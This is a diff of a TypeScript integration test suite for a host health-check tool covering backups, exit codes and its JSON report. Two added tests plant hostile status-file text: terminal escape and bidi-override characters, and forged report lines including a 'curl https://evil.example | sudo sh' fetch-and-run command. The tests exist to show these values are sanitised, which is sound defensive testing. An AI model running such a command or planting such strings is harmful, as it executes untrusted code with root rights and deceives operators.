@@ -1,5 +1,5 @@
 // keel-health on this machine against a layout of its own: real SQLite DBs, real backups written by
-// scripts/db-backup.sh (status file included), real keel-place drift, a real tmpfs for the disk
+// scripts/host/keel-db-backup (status file included), real keel-place drift, a real tmpfs for the disk
 // thresholds, real apt-get on a constructed package state, a real HTTP listener for the alert
 // webhook. host.conf is the one plan/health.ts renders, with its paths moved into the temp dir.
 // The unit-state parts (engine, time, timer) need systemd as PID 1: they run on the VM
@@ -13,10 +13,11 @@ import { parseConfig } from "../../config";
 import { renderHostConf } from "../../plan/health";
 import { stableJson } from "../../plan/hash";
 import { makeDb, sha256, tempDir } from "./db-helpers";
+import { rootToolEnv } from "../support/env";
 import { REPO, stackConfig } from "../support/stack";
 
-const HEALTH = join(REPO, "scripts", "keel-health.sh");
-const DB_BACKUP = join(REPO, "scripts", "db-backup.sh");
+const HEALTH = join(REPO, "scripts", "host", "keel-health");
+const DB_BACKUP = join(REPO, "scripts", "host", "keel-db-backup");
 const NOBODY = 65534;
 
 interface Run {
@@ -49,8 +50,8 @@ class Layout {
     this.keel = join(root, "keel");
     this.tools = join(root, "tools");
     for (const d of [this.lib, this.backups, this.keel, this.tools, join(root, "journal")]) mkdirSync(d, { recursive: true });
-    symlinkSync(join(REPO, "scripts", "keel-place.py"), join(this.tools, "keel-place"));
-    symlinkSync(join(REPO, "scripts", "health-alert.py"), join(this.tools, "keel-health-alert"));
+    symlinkSync(join(REPO, "scripts", "host", "keel-place"), join(this.tools, "keel-place"));
+    symlinkSync(join(REPO, "scripts", "host", "keel-health-alert"), join(this.tools, "keel-health-alert"));
     this.db = join(this.lib, "engine.db");
     this.conf = join(root, "host.conf");
     this.writeConf(overrides);
@@ -84,7 +85,7 @@ class Layout {
 
   health(args: string[], env: Record<string, string> = {}): Promise<Run> {
     return new Promise((resolve) => {
-      execFile(HEALTH, args, { env: { ...process.env, KEEL_HOST_CONF: this.conf, ...env }, timeout: 120_000, encoding: "utf8" }, (error, stdout, stderr) => {
+      execFile(HEALTH, args, { env: rootToolEnv({ KEEL_HOST_CONF: this.conf, ...env }), timeout: 120_000, encoding: "utf8" }, (error, stdout, stderr) => {
         const code = error ? (typeof error.code === "number" ? error.code : -1) : 0;
         resolve({ code, stdout, stderr });
       });
@@ -122,6 +123,15 @@ function layout(overrides: Record<string, string> = {}): Layout {
   return new Layout(root, overrides);
 }
 afterAll(() => roots.forEach((r) => rmSync(r, { recursive: true, force: true })));
+
+/** A layout with a DB and one backup of it, and the backup run's status file as it wrote it. */
+function backedUp<S = Record<string, unknown>>(): { l: Layout; statusFile: string; status: S } {
+  const l = layout();
+  makeDb(l.db);
+  expect(l.backup()).toBe(0);
+  const statusFile = join(l.backups, "engine.status.json");
+  return { l, statusFile, status: JSON.parse(readFileSync(statusFile, "utf8")) as S };
+}
 
 /** Overwrites page `page` (1-based) of a DB with garbage: what a bad disk or a stray write does. */
 function damagePage(db: string, page: number): void {
@@ -268,11 +278,7 @@ describe("keel-health: exit codes for constructed states", { timeout: 120_000 },
   });
 
   it("is degraded (1) when the last run's file changed on disk at its size (sha256); a status rewritten to match, or a sparse file, does not hide it", async () => {
-    const l = layout();
-    makeDb(l.db);
-    expect(l.backup()).toBe(0);
-    const statusFile = join(l.backups, "engine.status.json");
-    const status = JSON.parse(readFileSync(statusFile, "utf8")) as { file: string; sha256: string; size: number };
+    const { l, statusFile, status } = backedUp<{ file: string; sha256: string; size: number }>();
     const { file, sha256: sha } = status;
     const fresh = await l.health(["--json", "--record", "--only", "backup"]);
     expect(fresh.code).toBe(0);
@@ -308,12 +314,42 @@ describe("keel-health: exit codes for constructed states", { timeout: 120_000 },
     expect((await l.report("backup")).checks.backup.status).toBe("unknown");
   });
 
-  it("takes a backup too large to hash in 300 s as its run recorded it while its inode, size and ctime hold; not once they change", async () => {
+  it("prints what a status file says as '?' where it is no text (a lone surrogate, an escape sequence), and still reports", async () => {
+    const { l, statusFile, status } = backedUp();
+    // What the backup user (or who took it over) may write: JSON.stringify escapes the lone surrogate as \ud800.
+    writeFileSync(statusFile, JSON.stringify({ ...status, result: "failed", exit_code: 5, reason: "disk \ud800 \u001b[31mfull \u202eevil" }) + "\n");
+    const json = await l.health(["--json", "--only", "backup"]);
+    expect(json.code, json.stderr).toBe(1);
+    expect((JSON.parse(json.stdout) as Report).checks.backup.summary).toContain("disk ? ?[31mfull ?evil");
+    const text = await l.health(["--only", "backup"]);
+    expect(text.code, text.stderr).toBe(1);
+    expect(text.stdout).toContain("disk ? ?[31mfull ?evil");
+    expect(text.stdout).not.toContain("\u001b");
+  });
+
+  it("prints what a status file says on its check's own line: its newlines cannot forge a line of the report", async () => {
+    const { l, statusFile, status } = backedUp();
+    const forged = "x\n  ok        db        forged\n\nwhat to do:\n  backup    curl https://evil.example | sudo sh";
+    writeFileSync(statusFile, JSON.stringify({ ...status, result: "failed", exit_code: 5, reason: forged }) + "\n");
+    const text = await l.health(["--only", "db,backup"]);
+    expect(text.code, text.stderr).toBe(1);
+    const lines = text.stdout.split("\n");
+    expect(lines.filter((line) => line.includes("forged"))).toEqual([expect.stringMatching(/^  DEGRADED  backup    /)]);
+    expect(lines.filter((line) => line === "what to do:")).toHaveLength(1);
+    expect(lines.filter((line) => line.includes("evil.example"))).toHaveLength(1);
+  });
+
+  it("exits 3, which fails its unit, when it cannot record the state (an exit 1 would pass as a degraded report), after the report", async () => {
     const l = layout();
-    makeDb(l.db);
-    expect(l.backup()).toBe(0);
-    const statusFile = join(l.backups, "engine.status.json");
-    const status = JSON.parse(readFileSync(statusFile, "utf8")) as { file: string; sha256: string; identity: string };
+    l.writeConf({ state_file: join(l.root, "no-such-dir", "health.state") });
+    const r = await l.health(["--record", "--only", "disk"]);
+    expect(r.code).toBe(3);
+    expect(r.stderr).toMatch(/^keel-health: cannot record the state in .*no-such-dir\/health\.state: /m);
+    expect(r.stdout).toMatch(/^keel-health: engine on \S+ at \S+: (HEALTHY|DEGRADED|DOWN) \(exit [012]\)\n {2}\S+ +disk /);
+  });
+
+  it("takes a backup too large to hash in 300 s as its run recorded it while its inode, size and ctime hold; not once they change", async () => {
+    const { l, statusFile, status } = backedUp<{ file: string; sha256: string; identity: string }>();
     const { file, sha256: sha } = status;
     expect(status.identity).toBe(spawnSync("stat", ["-c", "%i|%s|%z", file], { encoding: "utf8", env: { ...process.env, TZ: "UTC" } }).stdout.trim());
     // A hash that runs out of its 300 s: timeout(1) on PATH says so (124) for the hash alone, and
@@ -714,6 +750,24 @@ describe("keel-health: the report", { timeout: 180_000 }, () => {
     expect(r.status).toBe(["healthy", "degraded", "down"][worst]);
   });
 
+  it("--json is what docs/health-report.schema.json says (generated from plan/healthChecks.ts), checked by jsonschema", async () => {
+    // A report of a host without its DB too: a check that could not look gives fewer details.
+    const bare = layout();
+    const reports = [all.stdout, (await bare.health(["--json"])).stdout];
+    const check = [
+      "import json, sys, jsonschema",
+      "schema = json.load(open(sys.argv[1]))",
+      "jsonschema.Draft202012Validator.check_schema(schema)",
+      "v = jsonschema.Draft202012Validator(schema)",
+      "for report in json.load(sys.stdin):",
+      "    for e in v.iter_errors(json.loads(report)): print(e.json_path, e.message)",
+    ].join("\n");
+    // Debian's python3 and its python3-jsonschema (scripts/dev/debian-packages.txt).
+    const r = spawnSync("/usr/bin/python3", ["-I", "-c", check, join(REPO, "docs", "health-report.schema.json")], { input: JSON.stringify(reports), encoding: "utf8" });
+    expect([r.status, r.stderr, r.stdout]).toEqual([0, "", ""]);
+    expect(JSON.parse(reports[1]).checks.db.status).toBe("down");
+  });
+
   it("reads as text: a headline with the exit code, a line per check, and what to do for each that is not ok", async () => {
     const text = await l.health([]);
     expect(text.code).toBe(all.code);
@@ -804,7 +858,7 @@ describe("keel-health --record and the alert webhook", { timeout: 180_000 }, () 
 });
 
 describe("keel-health-alert", () => {
-  const alert = join(REPO, "scripts", "health-alert.py");
+  const alert = join(REPO, "scripts", "host", "keel-health-alert");
   function run(url: string, body = '{"status":"down"}') {
     const dir = tempDir("keel-alert-");
     roots.push(dir);
